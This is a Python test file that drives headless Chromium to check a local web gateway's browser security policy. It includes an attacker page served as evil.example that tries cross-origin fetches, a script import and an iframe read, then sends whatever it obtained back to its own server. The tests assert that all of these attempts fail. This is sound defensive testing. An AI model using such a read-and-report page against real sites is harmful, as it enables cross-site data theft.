"""The page in a real browser: it works under its policy; a page of another site reads nothing, and runs nothing."""

import http.server
import os
import shutil
import signal
import subprocess
import threading
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from support.served import Served, served

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.local,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here: apt-get install chromium"),
]

OWN = """<!doctype html><link rel=stylesheet href=style.css><p id=said></p><p id=inline></p>
<script>document.getElementById("inline").textContent = "inline ran"</script>
<script src=https://elsewhere.example/a.js></script><script type=module src=page.js></script>"""
SCRIPT = """
const answer = await fetch("v1/ok"), posted = await fetch("v1/echo", {method: "POST", body: "{}"});
document.getElementById("said").textContent = `${answer.status} ${await answer.text()} ${posted.status}`;
"""
EVIL = """<!doctype html><script type=module>
const base = "%s", said = [];
for (const options of [{}, {mode: "no-cors"}, {method: "POST", body: "{}", headers: {"X-A": "1"}}])
  said.push(await fetch(base + "/v1/ok", options).then(async each => `${each.type}:${await each.text()}`, each => each.name));
said.push(await import(base + "/page.js").then(() => "imported", each => each.name));
const frame = document.createElement("iframe");
frame.src = base + "/";
document.documentElement.append(frame);
await new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
try { said.push("frame:" + frame.contentDocument.body.textContent); } catch (error) { said.push(error.name); }
await fetch("/done?" + encodeURIComponent(said.join(" ")));
</script>"""


@pytest.fixture
def gateway(tmp_path: Path) -> Iterator[Served]:
    (tmp_path / "web").mkdir()
    for name, text in (("index.html", OWN), ("page.js", SCRIPT), ("style.css", "p { color: red }")):
        (tmp_path / "web" / name).write_text(text)
    with served(tmp_path) as running:
        yield running


def browser(folder: Path, *arguments: str) -> list[str]:
    assert CHROMIUM is not None
    return [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--host-resolver-rules=MAP evil.example 127.0.0.1",
        f"--user-data-dir={folder / 'profile'}", *arguments,
    ]  # fmt: skip


@contextmanager
def site(page: str) -> Iterator[tuple[int, "threading.Event", list[str]]]:
    """Serve *page* as another site would; it says in the end what it could read."""
    done, said = threading.Event(), list[str]()

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            is_end = self.path.startswith("/done?")
            if is_end:
                said.extend(urllib.parse.unquote(self.path.partition("?")[2]).split(" "))
                done.set()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"" if is_end else page.encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server.server_address[1], done, said
        finally:
            server.shutdown()


def test_the_page_asks_its_api_and_nothing_inline_or_from_elsewhere_runs(
    gateway: Served, tmp_path: Path
) -> None:
    url = f"http://127.0.0.1:{gateway.port}/{gateway.base}"  # without the slash: it is led to the page
    shown = subprocess.run(
        browser(tmp_path, "--virtual-time-budget=20000", "--dump-dom", url),
        capture_output=True, text=True, timeout=180, check=False,
    ).stdout  # fmt: skip
    assert '200 {"ok": true} 200' in shown
    assert "inline ran" not in shown.partition("<script>")[0]


def test_a_page_of_another_site_that_knows_the_address_reads_nothing_and_runs_nothing(
    gateway: Served, tmp_path: Path
) -> None:
    assert gateway.ask("/v1/ok")[0].status == 200
    before = gateway.log("api.log").count("START")
    with site(EVIL % f"http://127.0.0.1:{gateway.port}/{gateway.base}") as (port, done, said):
        process = subprocess.Popen(
            browser(tmp_path, "--remote-debugging-port=0", f"http://evil.example:{port}/"),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        try:
            assert done.wait(180), "the page did not come to its end"
        finally:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    assert said[0] == "TypeError"
    assert said[1] in ("opaque:", "TypeError")
    assert said[2:4] == ["TypeError", "TypeError"]
    assert said[4] in ("TypeError", "SecurityError")
    assert gateway.log("api.log").count("START") == before
